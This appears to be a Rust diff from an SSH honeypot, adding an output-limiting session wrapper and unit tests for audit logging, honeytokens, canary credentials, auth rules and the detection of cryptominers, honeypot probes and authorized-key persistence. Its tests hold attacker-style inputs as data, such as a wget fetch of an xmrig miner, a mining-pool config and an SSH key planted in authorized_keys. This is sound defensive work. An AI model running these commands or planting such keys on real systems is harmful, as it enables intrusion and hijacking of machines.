+        Self { inner, remaining }
+    }
 }
 
-impl<'a> StdoutCaptureSession<'a> {
-    pub fn new(out: &'a mut Vec<u8>) -> Self {
-        Self { out }
+impl<S: ThrusshSession> LimitedSession<'_, S> {
+    fn write(&mut self, data: CryptoVec, write: impl FnOnce(&mut S, CryptoVec)) {
+        if *self.remaining == 0 {
+            return;
+        }
+
+        if data.len() > *self.remaining {
+            let truncated = data[..*self.remaining].to_vec();
+            *self.remaining = 0;
+            write(self.inner, truncated.into());
+        } else {
+            *self.remaining -= data.len();
+            write(self.inner, data);
+        }
     }
 }
 
-impl ThrusshSession for StdoutCaptureSession<'_> {
-    fn data(&mut self, _channel: ChannelId, data: CryptoVec) {
-        self.out.extend_from_slice(data.as_ref());
+impl<S: ThrusshSession> ThrusshSession for LimitedSession<'_, S> {
+    fn data(&mut self, channel: ChannelId, data: CryptoVec) {
+        self.write(data, |inner, data| inner.data(channel, data));
+    }
+
+    fn stderr(&mut self, channel: ChannelId, data: CryptoVec) {
+        self.write(data, |inner, data| inner.stderr(channel, data));
+    }
+
+    fn exit_status(&mut self, channel: ChannelId, exit_status: u32) {
+        self.inner.exit_status(channel, exit_status);
+    }
+
+    fn eof(&mut self, channel: ChannelId) {
+        self.inner.eof(channel);
+    }
+
+    fn close(&mut self, channel: ChannelId) {
+        self.inner.close(channel);
     }
 
     fn redirected(&self) -> bool {
-        true
+        self.inner.redirected()
     }
 }
 
@@ -807,4 +2172,631 @@ pub mod test {
             predicate::function(|v: &CryptoVec| &**v == s.as_bytes())
         }
     }
+
+    #[test]
+    fn session_rng() {
+        use super::{session_boot_time, session_rng};
+        use crate::{config::Config, state::State};
+
+        let state = State::default();
+        let config = Config::default();
+        let a = uuid::Uuid::from_u128(1 << 64);
+        let b = uuid::Uuid::from_u128(2 << 64);
+
+        // the same connection always sees the same values
+        assert_eq!(
+            session_boot_time(&state, &session_rng(&config, a)),
+            session_boot_time(&state, &session_rng(&config, a))
+        );
+        assert_ne!(
+            session_rng(&config, a).u64(..),
+            session_rng(&config, b).u64(..)
+        );
+
+        // unless a seed is configured, in which case every connection does
+        let config = Config {
+            seed: Some(1234),
+            ..Config::default()
+        };
+        assert_eq!(
+            session_rng(&config, a).u64(..),
+            session_rng(&config, b).u64(..)
+        );
+    }
+
+    #[test]
+    fn times_pre_auth_disconnect_by_clock() {
+        use std::{sync::Arc, time::Duration};
+
+        use pisshoff_types::audit::AuditLogAction;
+        use time::macros::datetime;
+        use tokio::sync::watch;
+
+        use super::Server;
+        use crate::{audit::AuditSender, clock::Clock, config::Config, state::State};
+
+        let clock = Clock::fixed(datetime!(2024-05-02 13:37:00 UTC));
+        let state = Arc::new(State {
+            clock: clock.clone(),
+            ..State::default()
+        });
+        let (_config_send, config) = watch::channel(Arc::new(Config::default()));
+        let (audit_send, mut audit_recv) = AuditSender::channel();
+
+        let mut server = Server::new("test", config, state, audit_send, None);
+        let connection = thrussh::server::Server::new(&mut server, None);
+        clock.advance(Duration::from_secs(42));
+        drop(connection);
+
+        let log = audit_recv.try_recv().unwrap();
+        let Some(AuditLogAction::PreAuthDisconnect(event)) = log.events.last().map(|v| &v.action)
+        else {
+            panic!("expected pre-auth disconnect event");
+        };
+        assert_eq!(event.duration, Duration::from_secs(42));
+    }
+
+    #[test]
+    fn seeded_password_checks() {
+        use super::ConnectionState;
+        use crate::config::Config;
+
+        let decisions = || {
+            let state = ConnectionState::mock_with_config(Config {
+                seed: Some(1234),
+                access_probability: 0.5,
+                ..Config::default()
+            });
+
+            (0..32)
+                .map(|i| state.check_password("root", &format!("password{i}")))
+                .collect::<Vec<_>>()
+        };
+
+        // the same seed makes the same decisions for the same attempts
+        let first = decisions();
+        assert_eq!(first, decisions());
+        assert!(first.contains(&true) && first.contains(&false));
+    }
+
+    #[test]
+    fn tags() {
+        use super::ConnectionState;
+
+        let mut state = ConnectionState::mock();
+        state.tag("miner", "1");
+        state.tag("used_tor_exit", "0");
+        state.tag("used_tor_exit", "1");
+
+        let tags = &state.audit_log().tags;
+        assert_eq!(tags.len(), 2);
+        assert_eq!(tags.get("miner").map(AsRef::as_ref), Some("1"));
+        assert_eq!(tags.get("used_tor_exit").map(AsRef::as_ref), Some("1"));
+    }
+
+    #[test]
+    fn remote_forwards() {
+        use super::ConnectionState;
+
+        let mut state = ConnectionState::mock();
+        assert!(!state.add_remote_forward("0.0.0.0", 0));
+        assert!(state.audit_log().tags.is_empty());
+
+        assert!(state.add_remote_forward("0.0.0.0", 8080));
+        assert!(!state.remove_remote_forward("0.0.0.0", 9090));
+        assert!(state.remove_remote_forward("0.0.0.0", 8080));
+        assert!(!state.remove_remote_forward("0.0.0.0", 8080));
+
+        let tags = &state.audit_log().tags;
+        assert_eq!(tags.get("reverse_tunnel").map(AsRef::as_ref), Some("1"));
+    }
+
+    #[test]
+    fn sends_payloads_to_store() {
+        use pisshoff_types::audit::{AuditLogAction, WriteFileEvent};
+
+        use super::ConnectionState;
+
+        let (send, mut recv) = tokio::sync::mpsc::unbounded_channel();
+        let mut state = ConnectionState::mock();
+        state.set_payload_send(send);
+
+        state.record_file_write("/tmp/payload", "hello world".into());
+
+        let payload = recv.try_recv().unwrap();
+        assert_eq!(payload.content, "hello world");
+        assert_eq!(&*payload.sighting.path, "/tmp/payload");
+
+        let AuditLogAction::WriteFile(WriteFileEvent {
+            content,
+            size,
+            sha256,
+            ..
+        }) = &state.audit_log().events[0].action
+        else {
+            panic!("expected write-file event");
+        };
+        assert!(content.is_empty());
+        assert_eq!(*size, 11);
+        assert_eq!(sha256.as_ref(), Some(&payload.sha256));
+    }
+
+    #[test]
+    fn flags_suspected_miners() {
+        use pisshoff_types::audit::{AuditLogAction, MinerConfidence, MinerIndicator};
+
+        use super::ConnectionState;
+
+        let mut state = ConnectionState::mock();
+        state.record_command("wget http://1.2.3.4/xmrig.tar.gz");
+        state.record_file_write(
+            "/tmp/config.json",
+            r#"{"pools":[{"url":"pool.minexmr.com:443","user":"4abc"}]}"#.into(),
+        );
+
+        let events: Vec<_> = state
+            .audit_log()
+            .events
+            .iter()
+            .filter_map(|v| match &v.action {
+                AuditLogAction::SuspectedMiner(event) => Some(event),
+                _ => None,
+            })
+            .collect();
+
+        assert_eq!(events.len(), 2);
+        assert_eq!(events[0].confidence, MinerConfidence::Medium);
+        assert_eq!(&*events[1].source, "/tmp/config.json");
+        assert_eq!(events[1].confidence, MinerConfidence::High);
+        assert_eq!(
+            &*events[1].indicators,
+            [MinerIndicator::KnownMiner, MinerIndicator::PoolConfig]
+        );
+
+        let tags = &state.audit_log().tags;
+        assert_eq!(tags.get("miner").map(AsRef::as_ref), Some("1"));
+    }
+
+    #[test]
+    fn flags_detection_attempts() {
+        use pisshoff_types::audit::{AuditLogAction, DetectionAttemptEvent, DetectionProbe};
+
+        use super::ConnectionState;
+
+        let mut state = ConnectionState::mock();
+        state.record_command("uname -a");
+        state.record_command("cat /proc/mounts");
+
+        let events: Vec<_> = state
+            .audit_log()
+            .events
+            .iter()
+            .filter_map(|v| match &v.action {
+                AuditLogAction::DetectionAttempt(DetectionAttemptEvent { probe, command }) => {
+                    Some((*probe, command.to_string()))
+                }
+                _ => None,
+            })
+            .collect();
+
+        assert_eq!(
+            events,
+            [(DetectionProbe::Mounts, "cat /proc/mounts".to_string())]
+        );
+    }
+
+    #[test]
+    fn channels_leave_file_system_unbuilt() {
+        use thrussh::ChannelId;
+
+        use super::{test::fake_channel_id, ConnectionState};
+
+        let first = fake_channel_id();
+        let second = unsafe { std::mem::transmute::<u32, ChannelId>(1) };
+
+        let mut state = ConnectionState::mock();
+        state.enter_channel(first);
+        state.init_environment();
+        state.enter_channel(second);
+        state.close_channel(second);
+        state.close_channel(first);
+
+        assert!(state.file_system.is_none());
+    }
+
+    #[test]
+    fn channels_have_separate_shells() {
+        use std::{borrow::Cow, path::Path};
+
+        use thrussh::ChannelId;
+
+        use super::{test::fake_channel_id, ConnectionState};
+
+        let first = fake_channel_id();
+        let second = unsafe { std::mem::transmute::<u32, ChannelId>(1) };
+
+        let mut state = ConnectionState::mock();
+        state.enter_channel(first);
+        state.init_environment();
+        state.set_variable(Cow::Borrowed(b"A"), Cow::Borrowed(b"1"));
+        state.set_last_exit_status(3);
+        state.file_system().mkdirall(Path::new("/tmp")).unwrap();
+        state.file_system().cd(Some("/tmp")).unwrap();
+
+        state.enter_channel(second);
+        state.init_environment();
+        assert!(!state.environment().contains_key(b"A".as_slice()));
+        assert_eq!(state.last_exit_status(), 0);
+        assert_eq!(state.file_system().pwd(), Path::new("/root"));
+
+        state.enter_channel(first);
+        assert_eq!(
+            state.environment().get(b"A".as_slice()).map(AsRef::as_ref),
+            Some(b"1".as_slice())
+        );
+        assert_eq!(state.last_exit_status(), 3);
+        assert_eq!(state.file_system().pwd(), Path::new("/tmp"));
+
+        state.close_channel(first);
+        state.enter_channel(second);
+        assert_eq!(
+            state
+                .environment()
+                .get(b"USER".as_slice())
+                .map(AsRef::as_ref),
+            Some(b"root".as_slice())
+        );
+        assert!(!state.environment().contains_key(b"A".as_slice()));
+    }
+
+    #[test]
+    fn hashes_file_writes() {
+        use pisshoff_types::audit::{AuditLogAction, WriteFileEvent};
+
+        use super::ConnectionState;
+
+        let mut state = ConnectionState::mock();
+        state.record_file_write("/tmp/payload", "hello world".into());
+
+        let AuditLogAction::WriteFile(WriteFileEvent {
+            content,
+            size,
+            sha256,
+            ..
+        }) = &state.audit_log().events[0].action
+        else {
+            panic!("expected write-file event");
+        };
+        assert_eq!(content, "hello world");
+        assert_eq!(*size, 11);
+        assert_eq!(
+            sha256.as_deref(),
+            Some("b94d27b9934d3e08a52e52d7da7dabfac484efe37a5380ee9088f7ace2efcde9")
+        );
+    }
+
+    #[test]
+    fn profile_seeds_file_system() {
+        use std::path::Path;
+
+        use super::ConnectionState;
+        use crate::config::{Config, SystemProfile};
+
+        let mut state = ConnectionState::mock();
+        state.set_config(Config {
+            profile: SystemProfile::Ubuntu2204,
+            ..Config::default()
+        });
+
+        assert_eq!(state.node_name(), "ubuntu-s-2vcpu-4gb-fra1-01");
+        assert!(state.is_installed("git"));
+
+        let os_release = state
+            .file_system()
+            .read(Path::new("/etc/os-release"))
+            .unwrap();
+        assert!(os_release.starts_with(b"PRETTY_NAME=\"Ubuntu 22.04.2 LTS\""));
+
+        let hostname = state
+            .file_system()
+            .read(Path::new("/etc/hostname"))
+            .unwrap();
+        assert_eq!(hostname, b"ubuntu-s-2vcpu-4gb-fra1-01\n");
+    }
+
+    #[test]
+    fn honeytokens() {
+        use std::path::Path;
+
+        use super::ConnectionState;
+        use crate::{
+            audit::{AuditLogAction, HoneytokenAccess, HoneytokenAccessedEvent},
+            config::{Config, Honeytoken},
+        };
+
+        let mut state = ConnectionState::mock();
+        state.set_config(Config {
+            honeytokens: vec![Honeytoken {
+                path: ".aws/credentials".into(),
+                content: "aws_access_key_id = AKIA{token}\n".to_string(),
+            }],
+            ..Config::default()
+        });
+
+        let content = state
+            .file_system()
+            .read(Path::new("/root/.aws/credentials"))
+            .unwrap();
+        assert_eq!(content, b"aws_access_key_id = AKIA0102030405060708\n");
+
+        state.touch_file(Path::new("/etc/passwd"), HoneytokenAccess::Read);
+        assert!(state.audit_log().events.is_empty());
+
+        state.file_system().cd(Some(".aws")).unwrap();
+        state.touch_file(Path::new("./credentials"), HoneytokenAccess::Stat);
+
+        assert_eq!(
+            state.audit_log().tags.get("honeytoken").map(AsRef::as_ref),
+            Some("1")
+        );
+        let AuditLogAction::HoneytokenAccessed(HoneytokenAccessedEvent {
+            path,
+            access,
+            token,
+        }) = &state.audit_log().events[0].action
+        else {
+            panic!("expected honeytoken event");
+        };
+        assert_eq!(&**path, "/root/.aws/credentials");
+        assert_eq!(*access, HoneytokenAccess::Stat);
+        assert_eq!(&**token, "0102030405060708");
+    }
+
+    #[test]
+    fn canary_credentials() {
+        use super::ConnectionState;
+        use crate::{
+            audit::{AuditLogAction, CanaryCredentialUsedEvent},
+            config::{CanaryCredential, Config},
+        };
+
+        let mut state = ConnectionState::mock();
+        state.set_config(Config {
+            canary_credentials: vec![CanaryCredential {
+                username: "deploy".to_string(),
+                password: "hunter2".to_string(),
+                label: Some("pastebin".to_string()),
+            }],
+            ..Config::default()
+        });
+
+        assert!(!state.check_canary("password", "deploy", "hunter3"));
+        assert!(!state.check_canary("password", "root", "hunter2"));
+        assert!(state.audit_log().events.is_empty());
+
+        assert!(state.check_canary("keyboard-interactive", "deploy", "hunter2"));
+        assert!(state.check_canary("password", "deploy", "hunter2"));
+
+        assert_eq!(
+            state.audit_log().tags.get("canary").map(AsRef::as_ref),
+            Some("1")
+        );
+        let [event] = &*state.audit_log().events else {
+            panic!("expected a single alert");
+        };
+        let AuditLogAction::CanaryCredentialUsed(CanaryCredentialUsedEvent {
+            method,
+            username,
+            label,
+        }) = &event.action
+        else {
+            panic!("expected canary event");
+        };
+        assert_eq!(method, "keyboard-interactive");
+        assert_eq!(&**username, "deploy");
+        assert_eq!(label.as_deref(), Some("pastebin"));
+    }
+
+    #[test]
+    fn auth_rules() {
+        use super::ConnectionState;
+        use crate::{
+            audit::GeoLocation,
+            config::{AuthRule, AuthRuleAction, Config},
+        };
+
+        let rule = |id: &str, countries: &[&str], asns: &[u32], action| AuthRule {
+            id: id.to_string(),
+            countries: countries.iter().map(ToString::to_string).collect(),
+            asns: asns.to_vec(),
+            action,
+            tarpit_delay: 30_000,
+        };
+
+        let mut state = ConnectionState::mock();
+        state.set_config(Config {
+            auth_rules: vec![
+                rule("scanners", &[], &[14061], AuthRuleAction::Accept),
+                rule("tarpit", &["nl", "DE"], &[], AuthRuleAction::Tarpit),
+            ],
+            ..Config::default()
+        });
+        assert!(state.auth_rule().is_none());
+
+        let mut located = |country: &str, asn| {
+            state.audit_log().location = Some(GeoLocation {
+                country: Box::from(country),
+                asn,
+                as_name: Box::from(""),
+            });
+            state.auth_rule().map(|rule| rule.id.clone())
+        };
+
+        assert_eq!(located("NL", 14061).as_deref(), Some("scanners"));
+        assert_eq!(located("NL", 1136).as_deref(), Some("tarpit"));
+        assert_eq!(located("de", 3320).as_deref(), Some("tarpit"));
+        assert_eq!(located("US", 7922), None);
+    }
+
+    #[test]
+    fn upload_limits() {
+        use super::ConnectionState;
+        use crate::config::Config;
+
+        let mut state = ConnectionState::mock();
+        state.set_config(Config {
+            max_file_upload: 10,
+            max_connection_upload: 15,
+            ..Config::default()
+        });
+
+        assert!(!state.reserve_upload(11, 11));
+        assert!(state.reserve_upload(10, 10));
+        assert!(!state.reserve_upload(6, 6));
+        assert!(state.reserve_upload(5, 5));
+    }
+
+    #[test]
+    fn logins_need_failures_first() {
+        use super::ConnectionState;
+        use crate::config::Config;
+
+        let mut state = ConnectionState::mock();
+        state.set_config(Config {
+            access_probability: 1.0,
+            min_failed_logins: 2,
+            ..Config::default()
+        });
+
+        let address = state.audit_log().peer_address.unwrap().ip();
+        state.server_state.attackers.connected(address);
+
+        assert!(!state.check_login("root", "123456"));
+        assert!(!state.check_login("root", "password"));
+        assert!(!state.check_login("admin", "admin"));
+        assert!(state.check_login("root", "admin"));
+
+        // a password that's been accepted before skips straight through
+        state
+            .server_state
+            .attackers
+            .connected("10.0.0.1".parse().unwrap());
+        state.audit_log().peer_address = Some("10.0.0.1:22".parse().unwrap());
+        assert!(state.check_login("root", "admin"));
+        assert!(!state.check_login("root", "toor"));
+    }
+
+    #[test]
+    fn connection_limits() {
+        use pisshoff_types::audit::SessionLimit;
+
+        use super::ConnectionState;
+        use crate::config::Config;
+
+        let mut state = ConnectionState::mock();
+        state.set_config(Config {
+            max_connection_commands: 2,
+            max_connection_bytes_out: 100,
+            ..Config::default()
+        });
+
+        state.record_command("uname -a");
+        state.record_command("id");
+        assert_eq!(state.audit_log().summary.commands, 2);
+        assert_eq!(state.exceeded_limit(), None);
+
+        state.record_command("w");
+        assert_eq!(state.exceeded_limit(), Some(SessionLimit::Commands));
+
+        state.audit_log().summary.bytes_out = 101;
+        assert_eq!(state.exceeded_limit(), Some(SessionLimit::BytesOut));
+    }
+
+    #[test]
+    fn authorized_key_added() {
+        use pisshoff_types::audit::AuditLogAction;
+
+        use super::ConnectionState;
+
+        let mut state = ConnectionState::mock();
+        state.record_file_write(
+            ".ssh/authorized_keys",
+            "ssh-rsa AAAAB3NzaC1yc2E mdrfckr\n".into(),
+        );
+        state.record_file_write("/tmp/authorized_keys", "ssh-rsa AAAAB3NzaC1yc2E\n".into());
+
+        let events = &state.audit_log().events;
+        assert_eq!(events.len(), 3);
+        assert!(matches!(events[0].action, AuditLogAction::WriteFile(_)));
+        assert!(matches!(events[2].action, AuditLogAction::WriteFile(_)));
+
+        let AuditLogAction::AuthorizedKeyAdded(key) = &events[1].action else {
+            panic!("expected authorized key event: {:?}", events[1].action);
+        };
+        assert_eq!(&*key.path, ".ssh/authorized_keys");
+        assert_eq!(&*key.key_type, "ssh-rsa");
+        assert_eq!(&*key.key, "AAAAB3NzaC1yc2E");
+        assert_eq!(key.comment.as_deref(), Some("mdrfckr"));
+
+        assert_eq!(
+            state
+                .audit_log()
+                .tags
+                .get("ssh_key_persistence")
+                .map(AsRef::as_ref),
+            Some("1")
+        );
+    }
+
+    #[test]
+    fn event_sequence_interleaves_connections() {
+        use pisshoff_types::audit::AuditLogAction;
+
+        use super::ConnectionState;
+
+        let mut a = ConnectionState::mock();
+        let mut b = ConnectionState::mock();
+
+        a.push_action(AuditLogAction::ShellRequested);
+        b.push_action(AuditLogAction::ShellRequested);
+        a.push_action(AuditLogAction::ShellRequested);
+
+        let a = &a.audit_log().events;
+        let b = &b.audit_log().events;
+        assert!(a[0].sequence < b[0].sequence);
+        assert!(b[0].sequence < a[1].sequence);
+    }
+
+    #[test]
+    fn limited_session() {
+        use mockall::predicate::{always, eq};
+
+        use super::{LimitedSession, MockThrusshSession, ThrusshSession};
+
+        let mut session = MockThrusshSession::default();
+        session
+            .expect_data()
+            .once()
+            .with(always(), predicate::eq_string("hello"))
+            .returning(|_, _| ());
+        session
+            .expect_data()
+            .once()
+            .with(always(), predicate::eq_string("wo"))
+            .returning(|_, _| ());
+        session
+            .expect_exit_status()
+            .once()
+            .with(always(), eq(3))
+            .returning(|_, _| ());
+
+        let mut remaining = 7;
+        let mut limited = LimitedSession::new(&mut session, &mut remaining);
+        limited.data(fake_channel_id(), "hello".into());
+        limited.data(fake_channel_id(), "world".into());
+        limited.data(fake_channel_id(), "discarded".into());
+        limited.exit_status(fake_channel_id(), 3);
+
+        assert_eq!(remaining, 0);
+    }
 }